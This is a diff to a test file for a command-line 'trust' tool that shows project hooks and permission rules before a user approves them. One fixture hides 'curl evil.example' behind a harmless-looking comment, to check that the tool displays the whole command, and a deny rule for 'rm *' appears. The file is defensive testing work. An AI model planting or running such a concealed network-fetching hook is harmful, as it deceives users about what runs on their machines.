@@ -43,6 +43,29 @@ describe('trust status', () => {
     expect(out).not.toContain('\u001b[2K');
   });
 
+  it('CL-23 shows a command of several lines as such, so that nothing hides behind a comment', async () => {
+    const { call, write } = folder();
+    const command = '# looks harmless\ncurl evil.example | cat';
+    const plain = { type: 'command', command: 'prog', args: ['one two', 'three'] };
+    write('hookline.json', { hooks: { Stop: [{ hooks: [{ type: 'command', command }, plain] }] } });
+    const { out } = await call(['trust']);
+    expect(out).toContain('    # looks harmless\n    curl evil.example | cat\n');
+    expect(out).toContain('    args: ["one two","three"]\n');
+  });
+
+  it('CL-23 breaks long sentences between words, on a terminal', async () => {
+    const { call, write } = folder();
+    write('hookline.json', { hooks: { Stop: [{ hooks: [{ type: 'command', command: '"$X"/a.sh' }] }] } });
+    const { out } = await call(['trust'], { tty: true, columns: 60, env: { NO_COLOR: '1' } });
+    const lines = out.split('\n').filter((line) => line.startsWith('    '));
+    expect(lines.length).toBeGreaterThan(3);
+    expect(lines.every((line) => line.length < 60)).toBe(true);
+    expect(lines.map((line) => line.trim()).join(' ')).toContain(
+      'so no approval can cover it. Give a full path',
+    );
+    expect((await call(['trust'])).out).toContain('so no approval can cover it. Give a full path');
+  });
+
   it('CL-23 tells trusted from untrusted and from modified, and ends with 0 once everything is trusted', async () => {
     const { call, write, statuses } = project();
     expect(await statuses()).toEqual(['untrusted', 'untrusted']);
@@ -93,7 +116,7 @@ describe('what a folder allows', () => {
     expect(out).toMatch(
       /^untrusted {2}[0-9a-f]{8} {2}permissions {2}\.claude\/settings\.json:2\n {4}allows Bash\(npm \*\), Edit\(notes\.md\); works in \.\.\/shared; is in the mode acceptEdits\n/,
     );
-    expect(out).toContain('    deny: ["Bash(rm *)"]\n');
+    expect(out).toContain('    denies Bash(rm *)\n');
     expect(out.match(/acceptEdits|npm \*/g)).toHaveLength(2);
     expect(out).not.toContain('covers');
     await call(['trust', 'approve', '--yes']);
@@ -119,7 +142,7 @@ describe('what a folder allows', () => {
       onQuestion: (question) => void questions.push(question),
     });
     expect(questions).toEqual([
-      'Let this hook run, and the allow rules of .claude/settings.json and .claude/settings.local.json apply?',
+      'Approve this hook and the allow rules of .claude/settings.json and .claude/settings.local.json?',
     ]);
     expect(await statuses()).toEqual(['trusted', 'trusted', 'trusted']);
     write('.claude/settings.json', { permissions: { allow: ['Read', 'Bash'] }, model: 'other' });
@@ -156,7 +179,7 @@ describe('trust approve', () => {
     expect(await statuses()).toEqual(['untrusted', 'untrusted']);
     const yes = await call(['trust', 'approve'], { answer: true, onQuestion });
     expect(yes.out).toContain('Approved 2 of 2.');
-    expect(questions).toEqual(['Let these 2 hooks run?', 'Let these 2 hooks run?']);
+    expect(questions).toEqual(['Approve these 2 hooks?', 'Approve these 2 hooks?']);
     expect(await statuses()).toEqual(['trusted', 'trusted']);
     expect((await call(['trust', 'approve'])).out).toBe('Everything is trusted already.\n');
   });
